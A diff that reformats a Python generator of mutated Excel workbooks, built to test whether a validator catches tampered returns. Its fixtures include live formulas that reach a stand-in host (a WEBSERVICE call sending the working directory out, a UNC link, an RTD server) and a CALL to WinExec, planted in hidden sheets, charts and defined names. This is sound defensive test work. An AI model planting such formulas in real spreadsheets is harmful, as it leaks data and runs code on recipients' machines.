@@ -47,7 +47,12 @@ XML_SPACE = "{http://www.w3.org/XML/1998/namespace}space"
 
 # The inputs the mutations aim at (the 2008/09 review's template): a money input with a
 # figure in every demo return, a rating, a free-text input and the sign-off date.
-MONEY, RATING, NAME, DATE = ("Gains", "B8"), ("Forecast", "B6"), ("Sign-off", "B5"), ("Sign-off", "B7")
+MONEY, RATING, NAME, DATE = (
+    ("Gains", "B8"),
+    ("Forecast", "B6"),
+    ("Sign-off", "B5"),
+    ("Sign-off", "B7"),
+)
 # Live formulas that reach outside the workbook, as a partner could hide them.
 LIVE = (
     '_xlfn.WEBSERVICE("http://ni179.invalid/?d="&INFO("directory"))',
@@ -55,7 +60,7 @@ LIVE = (
     'RTD("ni179.server",,"topic")',
     'HYPERLINK("\\\\ni179.invalid\\share\\x.xlsx","open")',
     '_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://ni179.invalid/"),"//a")',
-    "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+    'CALL("kernel32","WinExec","JCJ","calc",0)',
     "'http://ni179.invalid/[book.xlsx]Sheet1'!A1",
 )
 
@@ -87,6 +92,7 @@ class Mutant:
 
 # -- finding parts ---------------------------------------------------------------------------
 
+
 def _rels_root(pkg: Package, part: str) -> etree._Element:
     name = pkg.rels_name(part)
     if name not in pkg.parts:
@@ -95,8 +101,11 @@ def _rels_root(pkg: Package, part: str) -> etree._Element:
 
 
 def _resolve(part: str, target: str) -> str:
-    return target.lstrip("/") if target.startswith("/") else posixpath.normpath(
-        posixpath.join(posixpath.dirname(part), target))
+    return (
+        target.lstrip("/")
+        if target.startswith("/")
+        else posixpath.normpath(posixpath.join(posixpath.dirname(part), target))
+    )
 
 
 def _relative(part: str, target: str) -> str:
@@ -172,7 +181,9 @@ def _edit_sheet(pkg: Package, sheet: str, edit: Callable[[etree._Element], None]
     pkg.put(part, root)
 
 
-def _copy_sheet_with(pkg: Package, sheet: str, coord: str, number: str, name: str, schema: Schema) -> str:
+def _copy_sheet_with(
+    pkg: Package, sheet: str, coord: str, number: str, name: str, schema: Schema
+) -> str:
     """A copy of ``sheet``'s part, as a new part ``name`` (with its content type), in which
     ``coord`` holds ``number`` (its totals kept true to it); its relationships are copied too."""
     part = pkg.sheet_parts()[sheet]
@@ -203,15 +214,20 @@ def _content_type(pkg: Package, part: str, content_type: str) -> None:
 
 # -- item 1: a second workbook part ----------------------------------------------------------
 
+
 def second_workbook(pkg: Package, rng: random.Random, aim: Aim) -> str:
     wb = pkg.workbook_part()
     new_wb = "xl/book2.xml"
     rid, _ = _sheet_rel(pkg, MONEY[0])
-    copy_part = _copy_sheet_with(pkg, MONEY[0], MONEY[1], "1.5", "xl/worksheets/gains2.xml", aim.schema)
+    copy_part = _copy_sheet_with(
+        pkg, MONEY[0], MONEY[1], "1.5", "xl/worksheets/gains2.xml", aim.schema
+    )
     pkg.parts[new_wb] = pkg.parts[wb]
     rels = _rels_root(pkg, wb)
     for rel in rels:
-        target = _resolve(wb, rel.get("Target", "")) if rel.get("TargetMode") != "External" else None
+        target = (
+            _resolve(wb, rel.get("Target", "")) if rel.get("TargetMode") != "External" else None
+        )
         if rel.get("Id") == rid:
             target = copy_part
         if target is not None:
@@ -236,9 +252,16 @@ def second_workbook(pkg: Package, rng: random.Random, aim: Aim) -> str:
 
 # -- item 2: values outside sheetData --------------------------------------------------------
 
+
 def cell_outside_sheet_data(pkg: Package, rng: random.Random, aim: Aim) -> str | tuple[str, str]:
-    variant = ("extLst", "alternate-content-choice", "alternate-content-fallback", "sheetPr", "row-extLst",
-               "after-sheetData")[aim.pick % 6]
+    variant = (
+        "extLst",
+        "alternate-content-choice",
+        "alternate-content-fallback",
+        "sheetPr",
+        "row-extLst",
+        "after-sheetData",
+    )[aim.pick % 6]
     value = "163.5"
 
     def edit(root: etree._Element) -> None:
@@ -248,7 +271,9 @@ def cell_outside_sheet_data(pkg: Package, rng: random.Random, aim: Aim) -> str |
             ext_list = root.find("m:extLst", NS)
             if ext_list is None:
                 ext_list = etree.SubElement(root, f"{{{MAIN}}}extLst")
-            ext = etree.SubElement(ext_list, f"{{{MAIN}}}ext", uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}")
+            ext = etree.SubElement(
+                ext_list, f"{{{MAIN}}}ext", uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"
+            )
             ext.append(stray)
         elif variant.startswith("alternate-content"):
             row = cell_of(root, MONEY[1]).getparent()
@@ -274,23 +299,33 @@ def cell_outside_sheet_data(pkg: Package, rng: random.Random, aim: Aim) -> str |
             root.find("m:sheetData", NS).addnext(stray)
         else:  # an extension list inside the row itself
             row = cell_of(root, MONEY[1]).getparent()
-            etree.SubElement(etree.SubElement(row, f"{{{MAIN}}}extLst"), f"{{{MAIN}}}ext", uri="{x}").append(stray)
-        restamp(root, aim.schema, {MONEY[1]: float(value)})  # the totals agree with the planted figure
+            etree.SubElement(
+                etree.SubElement(row, f"{{{MAIN}}}extLst"), f"{{{MAIN}}}ext", uri="{x}"
+            ).append(stray)
+        restamp(
+            root, aim.schema, {MONEY[1]: float(value)}
+        )  # the totals agree with the planted figure
 
     _edit_sheet(pkg, MONEY[0], edit)
     said = f"{variant}: a second {MONEY[0]}!{MONEY[1]} = {value} outside the sheet's cells"
     if variant.startswith("alternate-content"):
         # Excel 2010 and later take mc:Choice (they understand x14); Calc takes mc:Fallback.
-        return said, "Excel and Calc show different figures (Excel takes mc:Choice, Calc mc:Fallback)"
+        return (
+            said,
+            "Excel and Calc show different figures (Excel takes mc:Choice, Calc mc:Fallback)",
+        )
     return said
 
 
 # -- item 3: two relationships with one Id ---------------------------------------------------
 
+
 def duplicate_relationship_id(pkg: Package, rng: random.Random, aim: Aim) -> str:
     wb = pkg.workbook_part()
     rid, _ = _sheet_rel(pkg, MONEY[0])
-    copy_part = _copy_sheet_with(pkg, MONEY[0], MONEY[1], "1.5", "xl/worksheets/gains_copy.xml", aim.schema)
+    copy_part = _copy_sheet_with(
+        pkg, MONEY[0], MONEY[1], "1.5", "xl/worksheets/gains_copy.xml", aim.schema
+    )
     root = _rels_root(pkg, wb)
     original = next(r for r in root if r.get("Id") == rid)
     twin = copy.deepcopy(original)
@@ -308,6 +343,7 @@ def duplicate_relationship_id(pkg: Package, rng: random.Random, aim: Aim) -> str
 
 
 # -- item 4: shared strings found by name ----------------------------------------------------
+
 
 def _swap_ratings(text: str) -> str:
     return {"Red": "Green", "Amber": "Green", "Green": "Red"}.get(text, text)
@@ -330,7 +366,9 @@ def decoy_shared_strings(pkg: Package, rng: random.Random, aim: Aim) -> str:
     variant = ("unknown-type", "custom-xml-type", "no-relationship")[aim.pick % 3]
     if variant != "no-relationship":
         kind = "http://ni179.invalid/decoy" if variant == "unknown-type" else f"{REL}/customXml"
-        rel = etree.Element(f"{{{PKG_REL}}}Relationship", Id="rIdDecoy", Type=kind, Target=_relative(wb, real))
+        rel = etree.Element(
+            f"{{{PKG_REL}}}Relationship", Id="rIdDecoy", Type=kind, Target=_relative(wb, real)
+        )
         root.insert(0, rel)
     pkg.put(pkg.rels_name(wb), root)
     ct = pkg.xml("[Content_Types].xml")
@@ -339,8 +377,10 @@ def decoy_shared_strings(pkg: Package, rng: random.Random, aim: Aim) -> str:
             o.set("PartName", "/" + moved)
     pkg.put("[Content_Types].xml", ct)
     _content_type(pkg, real, rng.choice([SST_CT, "application/xml"]))
-    return (f"{variant}: the real shared strings moved to {moved}; a decoy named {real} has every rating "
-            f"swapped ({RATING[0]}!{RATING[1]} holds {rating!r})")
+    return (
+        f"{variant}: the real shared strings moved to {moved}; a decoy named {real} has every rating "
+        f"swapped ({RATING[0]}!{RATING[1]} holds {rating!r})"
+    )
 
 
 def _rating_as_shared_string(pkg: Package) -> tuple[str, int]:
@@ -352,7 +392,11 @@ def _rating_as_shared_string(pkg: Package) -> tuple[str, int]:
         si = pkg.xml(shared_strings_part(pkg)).findall("m:si", NS)[int(c.findtext("m:v", "", NS))]
         text = "".join(t.text or "" for t in si.iter(f"{{{MAIN}}}t"))
     else:
-        text = "".join(t.text or "" for t in c.iter(f"{{{MAIN}}}t")) or c.findtext("m:v", "", NS) or "Red"
+        text = (
+            "".join(t.text or "" for t in c.iter(f"{{{MAIN}}}t"))
+            or c.findtext("m:v", "", NS)
+            or "Red"
+        )
     index = add_shared_string(pkg, text)
     root = pkg.xml(part)
     c = cell_of(root, RATING[1])
@@ -364,9 +408,16 @@ def _rating_as_shared_string(pkg: Package) -> tuple[str, int]:
 
 # -- item 5: formulas in input cells, in disguise --------------------------------------------
 
+
 def formula_in_disguise(pkg: Package, rng: random.Random, aim: Aim) -> str:
-    variant = ("shared-follower-without-master", "data-table", "empty-f", "empty-array",
-               "shared-follower-of-far-master", "text-with-empty-f")[aim.pick % 6]
+    variant = (
+        "shared-follower-without-master",
+        "data-table",
+        "empty-f",
+        "empty-array",
+        "shared-follower-of-far-master",
+        "text-with-empty-f",
+    )[aim.pick % 6]
 
     def edit(root: etree._Element) -> None:
         coord = RATING[1] if variant == "text-with-empty-f" else MONEY[1]
@@ -404,14 +455,23 @@ def formula_in_disguise(pkg: Package, rng: random.Random, aim: Aim) -> str:
 
 # -- item 6: live formulas outside the inputs (must be rejected) -----------------------------
 
-PLACES = ("_meta row", "added sheet", "conditional format", "data validation", "defined name",
-          "x14 conditional format", "hidden sheet cell", "chart")
+PLACES = (
+    "_meta row",
+    "added sheet",
+    "conditional format",
+    "data validation",
+    "defined name",
+    "x14 conditional format",
+    "hidden sheet cell",
+    "chart",
+)
 
 
 def live_formula_outside_inputs(pkg: Package, rng: random.Random, aim: Aim) -> tuple[str, str]:
     formula = LIVE[(aim.pick + aim.pick // len(PLACES)) % len(LIVE)]
     where = PLACES[aim.pick % len(PLACES)]
     if where == "_meta row":
+
         def edit(root: etree._Element) -> None:
             c = cell_of(root, "C40")
             for child in list(c):
@@ -419,10 +479,15 @@ def live_formula_outside_inputs(pkg: Package, rng: random.Random, aim: Aim) -> t
             c.set("t", "str")
             etree.SubElement(c, f"{{{MAIN}}}f").text = formula
             etree.SubElement(c, f"{{{MAIN}}}v").text = "0"
+
         _edit_sheet(pkg, "_meta", edit)
     elif where in ("added sheet", "hidden sheet cell"):
-        _add_sheet(pkg, "Validation results" if where == "added sheet" else "Notes", formula,
-                   hidden=where == "hidden sheet cell")
+        _add_sheet(
+            pkg,
+            "Validation results" if where == "added sheet" else "Notes",
+            formula,
+            hidden=where == "hidden sheet cell",
+        )
     elif where == "chart":
         _add_chart(pkg, formula)
     elif where == "defined name":
@@ -435,22 +500,51 @@ def live_formula_outside_inputs(pkg: Package, rng: random.Random, aim: Aim) -> t
         etree.SubElement(names, f"{{{MAIN}}}definedName", name="Refresh").text = formula
         pkg.put(wb, root)
     else:
+
         def edit(root: etree._Element) -> None:
             if where == "conditional format":
                 cf = etree.Element(f"{{{MAIN}}}conditionalFormatting", sqref="B8:E14")
                 rule = etree.SubElement(cf, f"{{{MAIN}}}cfRule", type="expression", priority="99")
                 etree.SubElement(rule, f"{{{MAIN}}}formula").text = f"LEN({formula})>0"
-                _insert_in_order(root, cf, after=("sheetData", "sheetCalcPr", "sheetProtection", "protectedRanges",
-                                                  "scenarios", "autoFilter", "sortState", "dataConsolidate",
-                                                  "customSheetViews", "mergeCells", "phoneticPr"))
+                _insert_in_order(
+                    root,
+                    cf,
+                    after=(
+                        "sheetData",
+                        "sheetCalcPr",
+                        "sheetProtection",
+                        "protectedRanges",
+                        "scenarios",
+                        "autoFilter",
+                        "sortState",
+                        "dataConsolidate",
+                        "customSheetViews",
+                        "mergeCells",
+                        "phoneticPr",
+                    ),
+                )
             elif where == "data validation":
                 dvs = root.find("m:dataValidations", NS)
                 if dvs is None:
                     dvs = etree.Element(f"{{{MAIN}}}dataValidations", count="0")
-                    _insert_in_order(root, dvs, after=("sheetData", "sheetCalcPr", "sheetProtection",
-                                                       "protectedRanges", "scenarios", "autoFilter", "sortState",
-                                                       "dataConsolidate", "customSheetViews", "mergeCells",
-                                                       "phoneticPr", "conditionalFormatting"))
+                    _insert_in_order(
+                        root,
+                        dvs,
+                        after=(
+                            "sheetData",
+                            "sheetCalcPr",
+                            "sheetProtection",
+                            "protectedRanges",
+                            "scenarios",
+                            "autoFilter",
+                            "sortState",
+                            "dataConsolidate",
+                            "customSheetViews",
+                            "mergeCells",
+                            "phoneticPr",
+                            "conditionalFormatting",
+                        ),
+                    )
                 dv = etree.SubElement(dvs, f"{{{MAIN}}}dataValidation", type="custom", sqref="E8")
                 etree.SubElement(dv, f"{{{MAIN}}}formula1").text = f"LEN({formula})>0"
                 dvs.set("count", str(len(dvs)))
@@ -458,14 +552,24 @@ def live_formula_outside_inputs(pkg: Package, rng: random.Random, aim: Aim) -> t
                 ext_list = root.find("m:extLst", NS)
                 if ext_list is None:
                     ext_list = etree.SubElement(root, f"{{{MAIN}}}extLst")
-                ext = etree.SubElement(ext_list, f"{{{MAIN}}}ext", uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}",
-                                       nsmap={"x14": X14})
+                ext = etree.SubElement(
+                    ext_list,
+                    f"{{{MAIN}}}ext",
+                    uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}",
+                    nsmap={"x14": X14},
+                )
                 cfs = etree.SubElement(ext, f"{{{X14}}}conditionalFormattings")
                 cf = etree.SubElement(cfs, f"{{{X14}}}conditionalFormatting", nsmap={"xm": XM})
-                rule = etree.SubElement(cf, f"{{{X14}}}cfRule", type="expression", priority="99",
-                                        id="{00000000-0000-0000-0000-000000000001}")
+                rule = etree.SubElement(
+                    cf,
+                    f"{{{X14}}}cfRule",
+                    type="expression",
+                    priority="99",
+                    id="{00000000-0000-0000-0000-000000000001}",
+                )
                 etree.SubElement(rule, f"{{{XM}}}f").text = f"LEN({formula})>0"
                 etree.SubElement(cf, f"{{{XM}}}sqref").text = "B8:E14"
+
         _edit_sheet(pkg, MONEY[0], edit)
     return f"{formula} in a {where}", f"a live formula reaching outside the workbook ({where})"
 
@@ -497,30 +601,60 @@ def _add_chart(pkg: Package, formula: str) -> None:
         "</c:tx><c:val><c:numRef><c:f>Gains!$B$8:$B$14</c:f></c:numRef></c:val></c:ser>"
         '<c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:scaling/><c:delete val="0"/>'
         '<c:axPos val="b"/><c:crossAx val="2"/></c:catAx><c:valAx><c:axId val="2"/><c:scaling/><c:delete val="0"/>'
-        '<c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart></c:chartSpace>').encode()
+        '<c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart></c:chartSpace>'
+    ).encode()
     pkg.parts[drawing] = (
         f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xdr:wsDr xmlns:xdr="{xdr}" xmlns:a="{a}" '
         f'xmlns:r="{REL}" xmlns:c="{c}"><xdr:twoCellAnchor><xdr:from><xdr:col>6</xdr:col><xdr:colOff>0</xdr:colOff>'
         "<xdr:row>6</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>12</xdr:col><xdr:colOff>0"
-        "</xdr:colOff><xdr:row>20</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:graphicFrame macro=\"\">"
+        '</xdr:colOff><xdr:row>20</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:graphicFrame macro="">'
         '<xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="Chart 1"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>'
         '<xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData '
         f'uri="{c}"><c:chart r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/>'
-        "</xdr:twoCellAnchor></xdr:wsDr>").encode()
+        "</xdr:twoCellAnchor></xdr:wsDr>"
+    ).encode()
     pkg.add_relationship(drawing, "chart", chart)
-    pkg.add_content_type(chart, content_type="application/vnd.openxmlformats-officedocument.drawingml.chart+xml")
-    pkg.add_content_type(drawing, content_type="application/vnd.openxmlformats-officedocument.drawing+xml")
+    pkg.add_content_type(
+        chart, content_type="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
+    )
+    pkg.add_content_type(
+        drawing, content_type="application/vnd.openxmlformats-officedocument.drawing+xml"
+    )
     part = pkg.sheet_parts()[MONEY[0]]
     rid = pkg.add_relationship(part, "drawing", drawing)
     root = pkg.xml(part)
     element = etree.Element(f"{{{MAIN}}}drawing")
     element.set(f"{{{REL}}}id", rid)
-    _insert_in_order(root, element, after=("sheetData", "sheetCalcPr", "sheetProtection", "protectedRanges",
-                                           "scenarios", "autoFilter", "sortState", "dataConsolidate",
-                                           "customSheetViews", "mergeCells", "phoneticPr", "conditionalFormatting",
-                                           "dataValidations", "hyperlinks", "printOptions", "pageMargins",
-                                           "pageSetup", "headerFooter", "rowBreaks", "colBreaks", "customProperties",
-                                           "cellWatches", "ignoredErrors", "smartTags"))
+    _insert_in_order(
+        root,
+        element,
+        after=(
+            "sheetData",
+            "sheetCalcPr",
+            "sheetProtection",
+            "protectedRanges",
+            "scenarios",
+            "autoFilter",
+            "sortState",
+            "dataConsolidate",
+            "customSheetViews",
+            "mergeCells",
+            "phoneticPr",
+            "conditionalFormatting",
+            "dataValidations",
+            "hyperlinks",
+            "printOptions",
+            "pageMargins",
+            "pageSetup",
+            "headerFooter",
+            "rowBreaks",
+            "colBreaks",
+            "customProperties",
+            "cellWatches",
+            "ignoredErrors",
+            "smartTags",
+        ),
+    )
     pkg.put(part, root)
 
 
@@ -554,7 +688,11 @@ def _add_sheet(pkg: Package, name: str, formula: str, hidden: bool) -> None:
 
 # (number format code, value to store, input): each makes Calc show other than we record.
 FORMATS = (
-    ("dd/mm/yyyy", "39945", MONEY),  # a date typed into a money cell, as the County Council's return
+    (
+        "dd/mm/yyyy",
+        "39945",
+        MONEY,
+    ),  # a date typed into a money cell, as the County Council's return
     ("0.0%", None, MONEY),
     (";;;", None, MONEY),
     ("#,##0,", None, MONEY),
@@ -564,8 +702,8 @@ FORMATS = (
     ('#,##0.0;-#,##0.0;"nil"', "0", MONEY),
     ("General", None, MONEY),  # shows the same: must agree, whatever we decide
     ("0.00", None, MONEY),
-    ('#,##0.0;[Red]-#,##0.0', None, MONEY),
-    ('0.0;0.0', "-63.5", MONEY),  # a negative shown without its sign
+    ("#,##0.0;[Red]-#,##0.0", None, MONEY),
+    ("0.0;0.0", "-63.5", MONEY),  # a negative shown without its sign
     ("General", None, DATE),  # the date shown as its serial number
     ("0.00", None, DATE),
     ("mm/dd/yyyy", None, DATE),
@@ -588,13 +726,17 @@ def number_format(pkg: Package, rng: random.Random, aim: Aim) -> str:
                 restamp(root, aim.schema, {})  # as the program that saved it would have
 
     _edit_sheet(pkg, sheet, edit)
-    return f"{sheet}!{coord} shown with the number format {code!r}" + (f", holding {value}" if value else "")
+    return f"{sheet}!{coord} shown with the number format {code!r}" + (
+        f", holding {value}" if value else ""
+    )
 
 
 def _add_format(pkg: Package, code: str) -> int:
     """A new cell style with number format ``code``; its index."""
     wb = pkg.workbook_part()
-    styles = next((t for kind, t in pkg.relationships(wb).values() if kind.endswith("/styles")), None)
+    styles = next(
+        (t for kind, t in pkg.relationships(wb).values() if kind.endswith("/styles")), None
+    )
     if styles is None:
         raise NotApplicable("no styles part")
     root = pkg.xml(styles)
@@ -619,18 +761,32 @@ def _add_format(pkg: Package, code: str) -> int:
 
 
 _ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
-ESCAPED = ("T. Walsh_x000D_", "_x0054_. Walsh", "T._x0020_Walsh", "T. Walsh_x001B_[2K", "T. Walsh_x005F_x0041_")
+ESCAPED = (
+    "T. Walsh_x000D_",
+    "_x0054_. Walsh",
+    "T._x0020_Walsh",
+    "T. Walsh_x001B_[2K",
+    "T. Walsh_x005F_x0041_",
+)
 
 
 def escaped_text(pkg: Package, rng: random.Random, aim: Aim) -> str | tuple[str, str]:
     """Excel's escape (ST_Xstring's _xHHHH_) in text an input shows."""
     text = ESCAPED[aim.pick % len(ESCAPED)]
     _edit_sheet(pkg, NAME[0], lambda root: _set_inline(cell_of(root, NAME[1]), text))
-    said = f"{NAME[0]}!{NAME[1]} holds {text!r} (Excel reads each _xHHHH_ as the character it names)"
-    printable = [code for code in _ESCAPE.findall(text) if 0x20 <= int(code, 16) < 0x7F and code.upper() != "005F"]
+    said = (
+        f"{NAME[0]}!{NAME[1]} holds {text!r} (Excel reads each _xHHHH_ as the character it names)"
+    )
+    printable = [
+        code
+        for code in _ESCAPE.findall(text)
+        if 0x20 <= int(code, 16) < 0x7F and code.upper() != "005F"
+    ]
     if printable:  # Excel decodes every escape; Calc only those of characters XML cannot hold
-        return said, (f"Excel and Calc show different text (Excel reads _x{printable[0]}_ as "
-                      f"{chr(int(printable[0], 16))!r}, Calc shows it as it is)")
+        return said, (
+            f"Excel and Calc show different text (Excel reads _x{printable[0]}_ as "
+            f"{chr(int(printable[0], 16))!r}, Calc shows it as it is)"
+        )
     return said
 
 
@@ -650,6 +806,7 @@ TARGETED: dict[str, tuple[Targeted, int]] = {
 
 # -- random edits ----------------------------------------------------------------------------
 
+
 def _xml_parts(pkg: Package) -> list[str]:
     return [n for n in pkg.parts if n.endswith((".xml", ".rels"))]
 
@@ -661,8 +818,19 @@ def edit_relationships(pkg: Package, rng: random.Random) -> str:
     items = list(root)
     if not items:
         raise NotApplicable("no relationships")
-    op = rng.choice(["swap-targets", "duplicate", "delete", "retype", "external", "absolute", "outside",
-                     "reorder", "duplicate-id"])
+    op = rng.choice(
+        [
+            "swap-targets",
+            "duplicate",
+            "delete",
+            "retype",
+            "external",
+            "absolute",
+            "outside",
+            "reorder",
+            "duplicate-id",
+        ]
+    )
     a, b = rng.choice(items), rng.choice(items)
     if op == "swap-targets":
         ta, tb = a.get("Target"), b.get("Target")
@@ -698,7 +866,9 @@ def edit_relationships(pkg: Package, rng: random.Random) -> str:
 def edit_content_types(pkg: Package, rng: random.Random) -> str:
     root = pkg.xml("[Content_Types].xml")
     overrides = root.findall("ct:Override", NS)
-    op = rng.choice(["delete-override", "swap-types", "default-xml-as-sheet", "delete-default", "case"])
+    op = rng.choice(
+        ["delete-override", "swap-types", "default-xml-as-sheet", "delete-default", "case"]
+    )
     o, p = rng.choice(overrides), rng.choice(overrides)
     what = o.get("PartName", "")
     if op == "delete-override":
@@ -730,7 +900,9 @@ def edit_workbook(pkg: Package, rng: random.Random) -> str:
     wb = pkg.workbook_part()
     root = pkg.xml(wb)
     sheets = root.findall("m:sheets/m:sheet", NS)
-    op = rng.choice(["swap-order", "swap-ids", "rename", "hide", "date1904", "duplicate-sheet", "local-name"])
+    op = rng.choice(
+        ["swap-order", "swap-ids", "rename", "hide", "date1904", "duplicate-sheet", "local-name"]
+    )
     a, b = rng.choice(sheets), rng.choice(sheets)
     rid = f"{{{REL}}}id"
     if op == "swap-order":
@@ -768,7 +940,11 @@ def edit_workbook(pkg: Package, rng: random.Random) -> str:
 
 def edit_shared_strings(pkg: Package, rng: random.Random) -> str:
     try:
-        part = next(t for kind, t in pkg.relationships(pkg.workbook_part()).values() if kind.endswith("/sharedStrings"))
+        part = next(
+            t
+            for kind, t in pkg.relationships(pkg.workbook_part()).values()
+            if kind.endswith("/sharedStrings")
+        )
     except StopIteration:
         raise NotApplicable("no shared strings") from None
     root = pkg.xml(part)
@@ -792,7 +968,7 @@ def edit_shared_strings(pkg: Package, rng: random.Random) -> str:
         text = "".join(t.text or "" for t in a.iter(f"{{{MAIN}}}t"))
         for child in list(a):
             a.remove(child)
-        for piece in (text[: len(text) // 2], text[len(text) // 2:]):
+        for piece in (text[: len(text) // 2], text[len(text) // 2 :]):
             r = etree.SubElement(a, f"{{{MAIN}}}r")
             t = etree.SubElement(r, f"{{{MAIN}}}t")
             t.text = piece
@@ -813,12 +989,32 @@ def edit_sheet(pkg: Package, rng: random.Random) -> str:
     data = root.find("m:sheetData", NS)
     rows = data.findall("m:row", NS)
     cells = [c for row in rows for c in row.findall("m:c", NS)]
-    inputs = [c for c in cells if c.get("r") in ("B8", "B9", "C8", "B19", "B6", "B7", "B5", "B9", "B2")] or cells
-    op = rng.choice(["swap-values", "duplicate-cell", "duplicate-row", "delete-row", "retype", "readdress",
-                     "reverse-rows", "restyle", "drop-address", "drop-row-number", "move-cell", "number-spelling",
-                     "delete-cell", "inline-and-value", "swap-cells"])
+    inputs = [
+        c for c in cells if c.get("r") in ("B8", "B9", "C8", "B19", "B6", "B7", "B5", "B9", "B2")
+    ] or cells
+    op = rng.choice(
+        [
+            "swap-values",
+            "duplicate-cell",
+            "duplicate-row",
+            "delete-row",
+            "retype",
+            "readdress",
+            "reverse-rows",
+            "restyle",
+            "drop-address",
+            "drop-row-number",
+            "move-cell",
+            "number-spelling",
+            "delete-cell",
+            "inline-and-value",
+            "swap-cells",
+        ]
+    )
     c, d = rng.choice(inputs), rng.choice(cells)
-    at = f"{c.get('r')}" + (f"/{d.get('r')}" if op in ("readdress", "swap-values", "swap-cells", "move-cell") else "")
+    at = f"{c.get('r')}" + (
+        f"/{d.get('r')}" if op in ("readdress", "swap-values", "swap-cells", "move-cell") else ""
+    )
     if op == "swap-values":
         kids_c, kids_d = list(c), list(d)
         tc, td = c.get("t"), d.get("t")
@@ -861,7 +1057,9 @@ def edit_sheet(pkg: Package, rng: random.Random) -> str:
         v = c.find("m:v", NS)
         if v is None or c.get("t") not in (None, "n"):
             raise NotApplicable("no number")
-        v.text = rng.choice([" 63.5 ", "6.35E1", "+63.5", "63.50", "063.5", "63,5", "0x3F", "63.5e0", "Infinity"])
+        v.text = rng.choice(
+            [" 63.5 ", "6.35E1", "+63.5", "63.50", "063.5", "63,5", "0x3F", "63.5e0", "Infinity"]
+        )
     elif op == "delete-cell":
         c.getparent().remove(c)
     elif op == "inline-and-value":
@@ -876,7 +1074,9 @@ def edit_sheet(pkg: Package, rng: random.Random) -> str:
 
 
 def rename_part(pkg: Package, rng: random.Random) -> str:
-    candidates = [n for n in pkg.parts if n.startswith("xl/") and n.endswith(".xml") and "/_rels/" not in n]
+    candidates = [
+        n for n in pkg.parts if n.startswith("xl/") and n.endswith(".xml") and "/_rels/" not in n
+    ]
     name = rng.choice(candidates)
     new = posixpath.join(posixpath.dirname(name), "renamed_" + posixpath.basename(name))
     update = rng.random() < 0.6
@@ -885,19 +1085,32 @@ def rename_part(pkg: Package, rng: random.Random) -> str:
         pkg.parts[pkg.rels_name(new)] = pkg.parts.pop(pkg.rels_name(name))
     if update:
         for rels_name in [n for n in pkg.parts if n.endswith(".rels")]:
-            owner = "" if rels_name == "_rels/.rels" else rels_name.replace("_rels/", "").removesuffix(".rels")
+            owner = (
+                ""
+                if rels_name == "_rels/.rels"
+                else rels_name.replace("_rels/", "").removesuffix(".rels")
+            )
             root = pkg.xml(rels_name)
             for rel in root:
-                if rel.get("TargetMode") != "External" and _resolve(owner, rel.get("Target", "")) == name:
-                    rel.set("Target", _relative(owner, new) if not rel.get("Target", "").startswith("/")
-                            else "/" + new)
+                if (
+                    rel.get("TargetMode") != "External"
+                    and _resolve(owner, rel.get("Target", "")) == name
+                ):
+                    rel.set(
+                        "Target",
+                        _relative(owner, new)
+                        if not rel.get("Target", "").startswith("/")
+                        else "/" + new,
+                    )
             pkg.put(rels_name, root)
         ct = pkg.xml("[Content_Types].xml")
         for o in ct.findall("ct:Override", NS):
             if o.get("PartName", "").lstrip("/") == name:
                 o.set("PartName", "/" + new)
         pkg.put("[Content_Types].xml", ct)
-    return f"{name} renamed {new}" + (" (relationships and content types follow)" if update else " (nothing follows)")
+    return f"{name} renamed {new}" + (
+        " (relationships and content types follow)" if update else " (nothing follows)"
+    )
 
 
 RANDOM: dict[str, Callable[[Package, random.Random], str]] = {
@@ -908,14 +1121,27 @@ RANDOM: dict[str, Callable[[Package, random.Random], str]] = {
     "sheet": edit_sheet,
     "rename-part": rename_part,
 }
-RANDOM_WEIGHTS = {"relationships": 3, "content-types": 2, "workbook": 2, "shared-strings": 2, "sheet": 6,
-                  "rename-part": 1}
+RANDOM_WEIGHTS = {
+    "relationships": 3,
+    "content-types": 2,
+    "workbook": 2,
+    "shared-strings": 2,
+    "sheet": 6,
+    "rename-part": 1,
+}
 
 
 # -- making the files ------------------------------------------------------------------------
 
-def _make(base: Path, out: Path, label: str, kind: str,
-          edits: list[Callable[[Package, random.Random], str | tuple[str, str]]], rng: random.Random) -> Mutant | None:
+
+def _make(
+    base: Path,
+    out: Path,
+    label: str,
+    kind: str,
+    edits: list[Callable[[Package, random.Random], str | tuple[str, str]]],
+    rng: random.Random,
+) -> Mutant | None:
     pkg = Package(base)
     details, must_reject = [], ""
     try:
@@ -925,12 +1151,16 @@ def _make(base: Path, out: Path, label: str, kind: str,
                 said, must_reject = said
             details.append(said)
     except (NotApplicable, KeyError, IndexError, ValueError, etree.XMLSyntaxError, StopIteration):
-        return None  # this edit does not apply to this base (or an earlier edit broke what it needs)
+        return (
+            None  # this edit does not apply to this base (or an earlier edit broke what it needs)
+        )
     pkg.save(out)
     return Mutant(out, label, kind, "; ".join(details), must_reject)
 
 
-def generate(bases: dict[str, Path], out_dir: Path, schema: Schema, *, seed: int, count: int) -> list[Mutant]:
+def generate(
+    bases: dict[str, Path], out_dir: Path, schema: Schema, *, seed: int, count: int
+) -> list[Mutant]:
     """Every variant of every targeted class (at least twice per base for a class with few
     variants), the bases taken in turn; then seeded random mutants up to ``count`` in all.
     Written into ``out_dir``, with ``mutants.json`` describing each."""
